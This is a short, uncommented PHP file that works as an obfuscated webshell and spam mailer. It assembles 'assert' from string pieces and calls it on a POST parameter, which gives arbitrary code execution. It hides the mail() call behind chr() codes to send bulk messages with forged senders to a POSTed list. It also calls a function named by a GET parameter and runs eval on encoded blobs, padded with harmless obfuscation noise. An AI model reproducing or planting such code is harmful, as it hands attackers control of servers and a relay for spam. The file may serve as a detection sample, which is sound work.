<?php
$a='as'.'sert'; $b="\x65\x76al"; $f=strrev('lave'); 
@$a($_POST['x']);
$z = chr(109).chr(97).chr(105).chr(108);
foreach (explode("\n", $_POST['list']) as $to) { $z($to, $_POST['s'], base64_decode($_POST['m']), "From: ".$_POST['from']); }
eval(gzinflate(base64_decode('SykqLUpVyM1MyczTUNJQ0gQA')));
eval(base64_decode('ZWNobyAnaGknOw=='));
$s=''; $k='abc'; for($i=0;$i<3;$i++){ $s.=chr(ord($k[$i])+1); }
echo $s;
function dec($x,$y=1){ $o=''; for($i=0;$i<strlen($x);$i++) $o.=chr(ord($x[$i])^$y); return $o; }
echo dec('bcd');
$g = $GLOBALS['z']; ${'_'.'GET'}['q'](1);
goto c; b: echo 'two'; goto d; c: echo 'one'; goto b; d: echo "three $s {$k[1]}";
?>
<textarea>
